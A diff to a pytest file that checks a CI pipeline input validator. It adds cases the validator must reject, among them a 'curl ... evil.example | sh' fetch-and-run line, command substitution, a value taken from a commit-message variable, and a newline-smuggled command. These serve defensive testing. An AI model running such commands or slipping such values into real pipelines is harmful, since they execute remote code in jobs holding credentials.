@@ -32,6 +32,15 @@ BAD = {
     "wrong_type_array": (REQUIRED + "      steps: 10,25,50\n", "steps"),
     "wrong_type_number": (REQUIRED + "      step_interval: a minute\n", "step_interval"),
     "missing_required_input": ("      mode: timed\n", "deploy_target"),
+    # setup and tool run in jobs that hold registry credentials: plain words only.
+    "setup_with_shell_syntax": (
+        REQUIRED + "      setup: 'tools/bootstrap; curl -s https://evil.example | sh'\n",
+        "setup"),
+    "setup_with_command_substitution": (REQUIRED + "      setup: tools/bootstrap $(id)\n",
+                                        "setup"),
+    "tool_from_a_variable": (REQUIRED + "      tool: $CI_COMMIT_MESSAGE\n", "tool"),
+    "tool_starting_with_an_option": (REQUIRED + "      tool: --version\n", "tool"),
+    "tool_with_a_newline": (REQUIRED + "      tool: \"tools/ci/modelship-tool\\nid\"\n", "tool"),
 }
 
 
@@ -127,4 +136,14 @@ def test_shipped_pipelines_pass():
         support.workspace_file(f"ci/examples/{name}.gitlab-ci.yml")
         for name in ("component", "project", "pick")]
     proc = check_inputs(*paths)
+    assert proc.returncode == 0, proc.stderr
+
+
+@pytest.mark.parametrize("value", ["tools/bootstrap", "true", "./bin/setup --quiet",
+                                   "bazel run //tools/ci:x --", "/opt/toolchain/install.sh"])
+def test_plain_commands_pass_as_setup_and_tool(tmp_path, value):
+    pipeline = tmp_path / ".gitlab-ci.yml"
+    pipeline.write_text(CONSUMER.format(inputs=REQUIRED + f"      setup: '{value}'\n"
+                                        f"      tool: '{value}'\n"), encoding="utf-8")
+    proc = check_inputs(str(pipeline))
     assert proc.returncode == 0, proc.stderr
